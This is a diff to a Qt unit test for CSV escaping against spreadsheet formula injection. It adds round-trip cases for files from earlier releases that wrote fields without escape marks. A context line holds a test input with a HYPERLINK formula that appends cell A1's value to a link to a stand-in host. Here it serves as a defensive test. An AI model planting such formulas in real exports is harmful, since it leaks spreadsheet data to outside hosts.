@@ -49,13 +49,20 @@ void TestRunReport::csvRoundTrip_data()
                              << QByteArray("\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"click\"\")\",a=b\r\n");
     QTest::newRow("text marks") << list({ "@SUM(1)", "+1", "-1", "\tx", "\rx", "'=1", "'" })
                                 << QByteArray("\"'@SUM(1)\",\"'+1\",\"'-1\",\"'\tx\",\"'\rx\",\"''=1\",\"''\"\r\n");
+    // Releases before the marks wrote every field as it was, quoted only for a comma, a quote or a line break.
+    QTest::newRow("earlier release, plain") << list({ "'Tis", "'", "'=1", "''" }) << QByteArray("'Tis,','=1,''\r\n");
+    QTest::newRow("earlier release, quoted") << list({ "'a, b'", "x" }) << QByteArray("\"'a, b'\",x\r\n");
+    // The first field alone would be taken for marked; the second shows there are no marks.
+    QTest::newRow("earlier release, told by a later field")
+        << list({ "'+1, or -1", "-5 degrees" }) << QByteArray("\"'+1, or -1\",-5 degrees\r\n");
 }
 
 void TestRunReport::csvRoundTrip()
 {
     QFETCH(QStringList, fields);
     QFETCH(QByteArray, encoded);
-    QCOMPARE(Common::csvRecord(fields), encoded);
+    if (!QByteArray(QTest::currentDataTag()).startsWith("earlier release"))
+        QCOMPARE(Common::csvRecord(fields), encoded);
 
     // Read back, followed by a second record to show where the first one ends.
     QByteArray twoRecords = encoded + "next,record\r\n";
